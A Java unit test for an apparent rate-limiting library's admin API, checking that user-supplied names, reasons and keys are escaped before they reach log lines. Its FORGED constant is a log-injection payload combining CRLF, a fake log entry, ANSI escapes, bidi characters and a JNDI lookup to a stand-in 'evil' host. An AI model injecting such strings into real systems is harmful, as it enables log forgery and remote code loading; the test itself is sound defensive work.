package dev.ratelimit.data;

import static org.assertj.core.api.Assertions.assertThat;

import dev.ratelimit.Subject;
import dev.ratelimit.admin.NewApiKey;
import dev.ratelimit.admin.version.Change;
import dev.ratelimit.store.jdbc.DatabaseProduct;
import dev.ratelimit.testing.Messages;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Names, authors and reasons that try to forge log lines. */
class ForgedLogLinesTest extends DataContract {

    private static final String FORGED = "x\r\n2026 WARN forged \u001b[31m ${jndi:ldap://evil} \u202e\u2028";

    @TempDir
    Path folder;

    @Override
    protected TestDatabase create() {
        return TestDatabase.sqlite(folder);
    }

    @Override
    protected DatabaseProduct product() {
        return DatabaseProduct.SQLITE;
    }

    @Test
    void noLineCanBeForged() {
        try (Messages messages = new Messages()) {
            Change forged = Change.by(FORGED).because(FORGED);
            admin.quotas().block(FORGED, forged.until(clock.instant().plus(Duration.ofHours(1))));
            admin.quotas().unblock(FORGED, forged);
            String id =
                    admin.keys().create(NewApiKey.of(FORGED, FORGED), forged).id();
            admin.keys().revoke(id, forged);
            String limit = policies.limits().names().iterator().next();
            admin.limits().disable(limit, forged);
            admin.limits().enable(limit, forged);
            admin.penalties().clear(Subject.user(FORGED), limit, forged);
            admin.penalties().note(Subject.user(FORGED), limit, Map.of(FORGED, FORGED), forged);

            List<String> lines = messages.all();
            assertThat(lines).hasSizeGreaterThanOrEqualTo(7);
            assertThat(lines)
                    .allSatisfy(line -> assertThat(line)
                            .doesNotContain("${", "\n", "\r", "\u001b", "\u202e", "\u2028")
                            .hasSizeLessThan(3_000));
            assertThat(lines).anyMatch(line -> line.startsWith("Blocked user x\\u000d\\u000a2026 WARN forged"));
        }
    }
}
